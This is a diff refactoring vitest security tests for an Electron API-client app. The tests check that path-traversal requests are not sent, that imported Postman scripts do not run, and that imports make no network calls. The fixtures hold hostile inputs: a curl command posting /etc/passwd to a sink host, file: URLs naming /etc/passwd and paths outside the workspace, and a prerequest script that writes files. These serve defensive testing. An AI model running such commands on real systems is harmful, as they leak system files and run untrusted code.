@@ -7,6 +7,7 @@ import { afterAll, beforeEach, describe, expect, it } from 'vitest';
 import { createFileAccess } from '../../electron/core/files/file-access.ts';
 import { createSentBody } from '../../electron/core/files/sent-body.ts';
 import { createHttpClient } from '../../electron/core/http/client.ts';
+import type { HttpClient } from '../../electron/core/http/http-types.ts';
 import { applyPlan } from '../../electron/core/import/apply-plan.ts';
 import { openWorkspace, type Workspace } from '../../electron/core/workspace/workspace.ts';
 import type { ImportFile } from '../../shared/import/import-format.ts';
@@ -26,6 +27,7 @@ import { loadWithFault } from './support/fault.ts';
 import { recordFigure, rounds } from './support/gate.ts';
 
 const GATE = 'path-escapes';
+const POSTMAN = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
 
 let root: string;
 let outside: string;
@@ -34,6 +36,32 @@ let workspace: Workspace;
 beforeEach(async () => {
   ({ root, outside, workspace } = await makeEscapePlace());
 });
+
+/** A connection without a key, to a server that would see what is sent. */
+async function connectTo(baseUrl: string): Promise<string> {
+  const connection = { sidecall: 2, info: { name: 'Sink' }, provider: 'openai-compatible', baseUrl } as const;
+  return (await workspace.saveConnection(null, { ...connection, auth: { type: 'none' } })).id;
+}
+
+/** Sends files of the workspace, and no others. */
+function clientOfWorkspace(): HttpClient {
+  const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
+  return createHttpClient({ openBody: (request) => createSentBody(request, access) });
+}
+
+/** Takes files of other programs in, and says which requests came of them. */
+async function takeIn(files: ImportFile[]): Promise<string[]> {
+  const { document } = readImport('auto', files);
+  const { requestPaths } = await applyPlan(planImport(document, 'Imported'), {
+    workspace,
+    folderPath: 'collections',
+    vault: null,
+    requests: null,
+    hasEnvironments: true,
+    resolveBaseUrl: (url) => url,
+  });
+  return requestPaths;
+}
 
 /** Files that a request of somebody else's names, to have them sent. */
 async function hostileFiles(): Promise<string[]> {
@@ -75,8 +103,7 @@ async function hostileFiles(): Promise<string[]> {
 describe('files that a request names', () => {
   it('are not sent: the server receives no byte, whatever the way that they are named', async () => {
     const server = await startLoopbackServer((_request, response) => response.end('{}'));
-    const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
-    const client = createHttpClient({ openBody: (request) => createSentBody(request, access) });
+    const client = clientOfWorkspace();
     try {
       const sent: string[] = [];
       const paths = await hostileFiles();
@@ -111,14 +138,7 @@ describe('files that a request names', () => {
     const server = await startLoopbackServer((_request, response) => response.end('{}'));
     try {
       await hostileFiles();
-      const auth = { type: 'none' as const };
-      const { id } = await workspace.saveConnection(null, {
-        sidecall: 2,
-        info: { name: 'Sink' },
-        provider: 'openai-compatible',
-        baseUrl: server.origin,
-        auth,
-      });
+      const id = await connectTo(server.origin);
       for (const path of ['../outside/mine.txt', 'link.png', '/etc/passwd', 'pipe.png']) {
         const content = [{ type: 'image_url', image_url: { url: `file:${path}` } }];
         const body = { model: 'm', messages: [{ role: 'user', content }] };
@@ -136,8 +156,7 @@ describe('files that a request names', () => {
 
   it('control: a file of the workspace is sent', async () => {
     const server = await startLoopbackServer((_request, response) => response.end('{}'));
-    const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
-    const client = createHttpClient({ openBody: (request) => createSentBody(request, access) });
+    const client = clientOfWorkspace();
     await writeFile(join(root, 'cat.txt'), 'cat');
     const request = {
       method: 'POST',
@@ -183,25 +202,15 @@ describe('templates that other programs would run', () => {
 
   it('stand as the text that they are, in requests, imports and files', async () => {
     expect(doings(await import('../../shared/variables/interpolate.ts'))).toEqual([]);
-    const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
     const event = [{ listen: 'prerequest', script: { exec: [`require('fs').writeFileSync('${MARKER}','')`] } }];
     const item = PAYLOADS.map((text) => ({
       name: text,
       event,
       request: { method: 'POST', url: `https://h.example/${text}`, body: { mode: 'raw', raw: text } },
     }));
-    const { document } = readImport('auto', [
-      { name: 'c.json', text: JSON.stringify({ info: { name: 'x', schema }, event, item }) },
-    ]);
-    const rest = { vault: null, requests: null, hasEnvironments: true, resolveBaseUrl: (url: string) => url };
-    const applied = await applyPlan(planImport(document, 'Imported'), {
-      workspace,
-      folderPath: 'collections',
-      ...rest,
-    });
-    const titles = await Promise.all(
-      applied.requestPaths.map(async (path) => (await workspace.readRequest(path)).draft.info.name),
-    );
+    const text = JSON.stringify({ info: { name: 'x', schema: POSTMAN }, event, item });
+    const paths = await takeIn([{ name: 'c.json', text }]);
+    const titles = await Promise.all(paths.map(async (path) => (await workspace.readRequest(path)).draft.info.name));
     expect(titles).toEqual(PAYLOADS);
     expect(existsSync(MARKER)).toBe(false);
     expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
@@ -241,7 +250,6 @@ describe('opening and importing', () => {
 
   it('send nothing and look nothing up', async () => {
     const url = 'https://sink.invalid/x';
-    const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
     const spec = {
       openapi: '3.1.0',
       info: { title: 'x', version: '1' },
@@ -252,18 +260,17 @@ describe('opening and importing', () => {
       [
         {
           name: 'c.json',
-          text: JSON.stringify({ info: { name: 'x', schema }, item: [{ name: 'a', request: { method: 'GET', url } }] }),
+          text: JSON.stringify({
+            info: { name: 'x', schema: POSTMAN },
+            item: [{ name: 'a', request: { method: 'GET', url } }],
+          }),
         },
       ],
       [{ name: 'o.json', text: JSON.stringify(spec) }],
       [{ name: '', text: `curl ${url} -d @/etc/passwd --next ${url}` }],
     ];
     const contacts = await contactsDuring(async () => {
-      for (const texts of files) {
-        const { document } = readImport('auto', texts);
-        const rest = { vault: null, requests: null, hasEnvironments: true, resolveBaseUrl: (base: string) => base };
-        await applyPlan(planImport(document, 'Imported'), { workspace, folderPath: 'collections', ...rest });
-      }
+      for (const texts of files) await takeIn(texts);
       await (await openWorkspace(root)).read();
     });
     expect(contacts).toEqual([]);
@@ -276,14 +283,7 @@ describe('opening and importing', () => {
 
   it('in the app sends nothing, and a request that names a foreign file says what was not sent', async () => {
     const server = await startLoopbackServer((_request, response) => response.end('{}'));
-    const auth = { type: 'none' as const };
-    const { id } = await workspace.saveConnection(null, {
-      sidecall: 2,
-      info: { name: 'Sink' },
-      provider: 'openai-compatible',
-      baseUrl: server.origin,
-      auth,
-    });
+    const id = await connectTo(server.origin);
     const content: JsonValue = [
       { type: 'text', text: 'See' },
       { type: 'image_url', image_url: { url: 'file:../outside/mine.txt' } },
@@ -298,9 +298,8 @@ describe('opening and importing', () => {
     try {
       const { page } = driver;
       await partsOf(page).open('Leaky');
-      const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
       const text = JSON.stringify({
-        info: { name: 'x', schema },
+        info: { name: 'x', schema: POSTMAN },
         item: [{ name: 'a', request: { method: 'GET', url: `${server.origin}/c` } }],
       });
       await call(page, 'import.preview', { text } as never).catch(() => null);
